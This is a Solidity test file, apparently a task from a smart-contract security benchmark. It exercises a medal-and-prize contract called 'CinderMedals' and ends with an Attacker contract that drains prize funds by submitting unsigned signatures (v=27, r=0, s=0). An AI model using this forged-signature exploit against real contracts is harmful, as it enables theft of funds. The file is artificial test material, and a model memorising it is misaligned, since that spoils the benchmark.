// SPDX-License-Identifier: AGPL-3.0-or-later
pragma solidity 0.8.19;

import "./CinderMedals.sol";

// assay-canary-b0800892-29db-4da9-9ec2-2c259dec43b1

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

contract Token is IPurse {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0x57E3A4D;
    uint256 internal constant START = 1_779_000_000;
    address internal constant RUNNER = address(0x4099E4);
    address internal constant CLUB = address(0xC18B);

    Token internal usd;
    CinderMedals internal cinder;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        cinder = new CinderMedals(usd);
        usd.mint(address(this), 200_000e6);
        usd.approve(address(cinder), type(uint256).max);
        address steward = vm.addr(KEY);
        cinder.announce("Ten thousand", steward, 20, 5_000e6, uint64(START + 1 days));
        cinder.announce("The mile", steward, 10, 500e6, uint64(START + 2 days));
        vm.warp(START + 3 days);
        for (uint256 bib = 1; bib <= 3; ++bib) {
            (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, cinder.slipOf(0, bib, CLUB));
            vm.prank(CLUB);
            uint256 medal = cinder.strike(0, bib, v, r, s);
            vm.prank(CLUB);
            cinder.redeem(medal);
        }
        vm.prank(steward);
        cinder.finish(0);
        thief = new Attacker(cinder, usd);
    }

    function test_Regular() public {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, cinder.slipOf(1, 7, RUNNER));
        (bool ok, ) = address(cinder).call(abi.encodeCall(CinderMedals.strike, (1, 7, v, r, s)));
        require(!ok, "the slip of another");
        vm.prank(RUNNER);
        uint256 medal = cinder.strike(1, 7, v, r, s);
        vm.prank(RUNNER);
        (ok, ) = address(cinder).call(abi.encodeCall(CinderMedals.strike, (1, 7, v, r, s)));
        require(!ok, "twice");
        vm.prank(RUNNER);
        cinder.give(medal, CLUB);
        vm.prank(CLUB);
        cinder.redeem(medal);
        require(usd.balanceOf(CLUB) == 15_500e6, "prizes");
        vm.prank(CLUB);
        (ok, ) = address(cinder).call(abi.encodeCall(CinderMedals.redeem, (medal)));
        require(!ok, "redeemed twice");

        address steward = vm.addr(KEY);
        vm.prank(steward);
        cinder.finish(1);
        (v, r, s) = vm.sign(KEY, cinder.slipOf(1, 8, RUNNER));
        vm.prank(RUNNER);
        (ok, ) = address(cinder).call(abi.encodeCall(CinderMedals.strike, (1, 8, v, r, s)));
        require(!ok, "after the finish");

        cinder.announce("The relay", steward, 1, 1e6, uint64(block.timestamp + 1 days));
        vm.prank(steward);
        cinder.handOver(2, RUNNER);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A race is its steward's, a medal its holder's.
    function test_RefusesStrangers() public {
        refuses(CLUB, "CM: not the steward");
        cinder.handOver(1, CLUB);
        refuses(CLUB, "CM: not the steward");
        cinder.finish(1);
        vm.expectRevert("CM: no steward");
        cinder.announce("Nobody's", address(0), 1, 1, uint64(block.timestamp + 1));
        address steward = vm.addr(KEY);
        refuses(steward, "CM: no steward");
        cinder.handOver(1, address(0));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, cinder.slipOf(1, 7, RUNNER));
        vm.prank(RUNNER);
        uint256 medal = cinder.strike(1, 7, v, r, s);
        refuses(CLUB, "CM: not the holder");
        cinder.give(medal, CLUB);
        refuses(CLUB, "CM: not redeemable");
        cinder.redeem(medal);
        usd.sleep(true);
        refuses(RUNNER, "CM: prize");
        cinder.redeem(medal);
        vm.expectRevert("CM: purse");
        cinder.announce("The relay", CLUB, 1, 1, uint64(block.timestamp + 1));
    }

    /// Races to come, medals while there are any, slips of one form.
    function test_RefusesMedals() public {
        vm.expectRevert("CM: in the past");
        cinder.announce("Yesterday's", CLUB, 1, 1, uint64(block.timestamp));
        address steward = vm.addr(KEY);
        uint256 race = cinder.announce("The relay", steward, 1, 1, uint64(block.timestamp + 1 days));
        refuses(steward, "CM: not held yet");
        cinder.finish(race);
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, cinder.slipOf(race, 1, RUNNER));
        refuses(RUNNER, "CM: not held yet");
        cinder.strike(race, 1, v, r, s);
        vm.warp(block.timestamp + 1 days + 1);
        refuses(RUNNER, "CM: form");
        cinder.strike(race, 1, v - 27, r, s);
        uint256 order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
        refuses(RUNNER, "CM: form");
        cinder.strike(race, 1, v == 27 ? 28 : 27, r, bytes32(order - uint256(s)));
        vm.prank(RUNNER);
        cinder.strike(race, 1, v, r, s);
        (v, r, s) = vm.sign(KEY, cinder.slipOf(race, 2, RUNNER));
        refuses(RUNNER, "CM: no place left");
        cinder.strike(race, 2, v, r, s);
    }

    function exploit() public {
        thief.run(0, 17);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 85_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(cinder);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Hands in slips that nobody signed.
contract Attacker {
    CinderMedals internal cinder;
    Token internal usd;

    constructor(CinderMedals cinder_, Token usd_) {
        cinder = cinder_;
        usd = usd_;
    }

    function run(uint256 race, uint256 count) external {
        for (uint256 i = 0; i < count; ++i) {
            cinder.redeem(cinder.strike(race, 1_000_000 + i, 27, 0, 0));
        }
    }
}
